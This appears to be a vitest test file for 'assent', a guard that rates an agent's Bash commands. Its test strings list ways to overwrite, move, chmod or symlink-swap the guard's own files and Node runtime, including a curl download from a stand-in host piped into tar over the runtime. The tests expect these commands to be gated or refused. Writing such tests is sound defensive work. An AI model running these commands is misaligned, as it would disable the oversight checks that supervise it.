import { describe, expect, test } from "vitest";
import { assess } from "../assess.ts";
import { attended } from "./facts.fixture.ts";

const version = "/home/mira/.nvm/versions/node/v24.2.1";
const root = `${version}/lib/node_modules/assent`;
const data = "/home/mira/.local/share/assent";
const facts = {
  ...attended,
  exists: ["e/**"],
  controlPlane: [root, `${root}/**`, `${root}/dist/hook`, `${root}/dist/hook/**`, `${version}/bin/node`, data, `${data}/**`, ".assent/**"],
};
const verdictOf = (command: string): string => assess({ tool: "Bash", input: { command }, cwd: "/code/shop" }, facts).verdict;

describe("A16 a tree that is put over a folder in which the guard or its Node lies is asked about", () => {
  test.each([
    "cp -r e/bin ~/.nvm/versions/node/v24.2.1/",
    "cp -r e/. ~/.nvm/versions/node/v24.2.1/",
    "cp -a e/* ~/.nvm/versions/node/v24.2.1",
    "cp -rT e ~/.nvm",
    "ditto e ~/.nvm/versions/node/v24.2.1",
    "cp -r e/share ~/.local/",
    "rsync -a e/ ~/.nvm/versions/node/v24.2.1",
    "tar xf x.tar -C ~/.nvm",
    "cd ~/.nvm/versions/node/v24.2.1 && tar xf x.tar",
    "curl -s https://e.test/x | tar xJ -C ~/.nvm/versions/node/v24.2.1",
    "unzip -o x.zip -d ~/.nvm/versions/node/v24.2.1",
    "7z x x.7z -o/home/mira/.nvm",
    "cpio -D ~/.nvm/versions -idu < x",
    "scp -r host.test:bin ~/.nvm/versions/node/v24.2.1/",
    "aws s3 sync s3://b ~/.nvm",
    "rclone copy r:b ~/.nvm",
    "docker cp c:/x/. ~/.nvm",
    "docker cp c:/bin ~/.nvm/versions/node/v24.2.1",
    "python3 -c \"import tarfile; tarfile.open('x.tar').extractall('/home/mira/.nvm')\"",
    "python3 -m zipfile -e x.zip ~/.nvm/versions/",
    "ruby -rfileutils -e \"FileUtils.cp_r('e/.', '/home/mira/.nvm')\"",
    "ruby -rfileutils -e \"FileUtils.cp_r('e/bin', '/home/mira/.nvm/versions/node/v24.2.1')\"",
    "npm install --prefix ~/.nvm/versions/node/v24.2.1/lib x",
  ])("%s", (command) => expect(verdictOf(command)).toBe("gate"));

  test.each(["ln -sfn v20 ~/.nvm/versions/node/v24.2.1", "chmod 000 ~/.nvm/versions", "mv ~/.nvm/versions/node/v24.2.1 /tmp/x"])(
    "refused, as it is gone then: %s",
    (command) => expect(verdictOf(command)).toBe("refuse"),
  );
});

test.each([
  "tar xf x.tar",
  "cp -r template/. .",
  "cp -r e ~/.nvm/versions/node/v20.1.0/",
  "tar xf x.tar -C ~/.nvm/versions/node/v20.1.0",
  "mkdir -p ~/.nvm/versions",
  "cp a.txt ~/.nvm/",
  "docker cp web:/a.log .",
  "unzip x.zip -d vendor",
])("A15 a tree that goes somewhere else is not: %s", (command) => expect(["low", "advisory"]).toContain(verdictOf(command)));
